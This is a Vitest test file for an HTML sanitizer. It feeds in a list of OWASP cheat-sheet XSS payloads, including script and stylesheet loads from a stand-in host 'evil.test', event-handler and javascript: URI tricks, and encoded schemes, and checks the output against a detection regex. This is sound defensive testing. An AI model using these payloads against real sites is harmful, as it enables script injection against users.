import { describe, expect, it } from 'vitest'
import { sanitize } from './sanitize.ts'

/** One of each kind from the OWASP XSS filter evasion cheat sheet. */
const ATTACKS = [
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a onmouseover="alert(1)">x</a>',
  '<a href="https://x.test" onclick=alert(1)>x</a>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>',
  '<SCRIPT/XSS SRC="https://evil.test/x.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<SCRIPT SRC=https://evil.test/x.js?< B >',
  '<IMG SRC="`<javascript:alert>`(1)"',
  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<STYLE>@import"https://evil.test/x.css";</STYLE>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.test/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
  '<BASE HREF="javascript:alert(1);//">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
]

const DANGER =
  /<\s*(script|style|svg|math|img|iframe|frame|object|embed|link|meta|base|form|input|body|template|video|details)|\son\w+\s*=|javascript\s*:|vbscript\s*:|data\s*:|expression\(|href="(?!https?:|mailto:)[^"]/i

const sanitized = (html: string) => sanitize(html, 'summary')

describe('sanitize', () => {
  it.each(ATTACKS)('leaves nothing executable of %s', (attack) => {
    expect(sanitized(`<p>antes</p>${attack}<p>depois</p>`)).not.toMatch(DANGER)
  })

  it('keeps what the editor writes', () => {
    const text =
      '<h2>Título</h2><p><strong>Forte</strong> e <em>leve</em></p><ul><li>um</li></ul><ol><li>dois</li></ol><blockquote><p>dito</p></blockquote>'
    expect(sanitized(text)).toBe(text)
  })

  it('opens links in another tab, without a referrer', () => {
    expect(sanitized('<a href="https://x.test/a?b=c" class="x">x</a>')).toBe(
      '<a href="https://x.test/a?b=c" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  it.each(['/admins', 'checklist', '../x', '?q=1', '#topo'])(
    'keeps the text of a link to %s, but not the link',
    (href) => {
      expect(sanitized(`<a href="${href}">ver</a>`)).toBe('<a>ver</a>')
    },
  )

  it('reduces a paste from Word to its text and structure', () => {
    const word =
      '<p class="MsoNormal" style="mso-margin:0"><b><span lang="PT-BR">Olá</span></b><o:p></o:p></p><h1>Um</h1>'
    expect(sanitized(word)).toBe('<p><strong>Olá</strong></p><h2>Um</h2>')
  })

  it('refuses excessive nesting, and names the field', () => {
    const nested = (depth: number) => `${'<b>'.repeat(depth)}x${'</b>'.repeat(depth)}`
    expect(sanitized(nested(100))).toContain('x')
    const refused = () => sanitized(nested(101))
    expect(refused).toThrow(
      expect.objectContaining({
        code: 'invalid_input',
        fields: [{ field: 'summary', message: 'Texto com formatação aninhada demais' }],
      }),
    )
  })

  it('limits how deep elements are nested, not how many there are', () => {
    expect(sanitized('<p>x</p><br>'.repeat(1000))).toContain('x')
    expect(sanitized('<li>x'.repeat(1000))).toContain('x')
  })

  it('is idempotent', () => {
    for (const attack of ATTACKS) expect(sanitized(sanitized(attack))).toBe(sanitized(attack))
  })
})
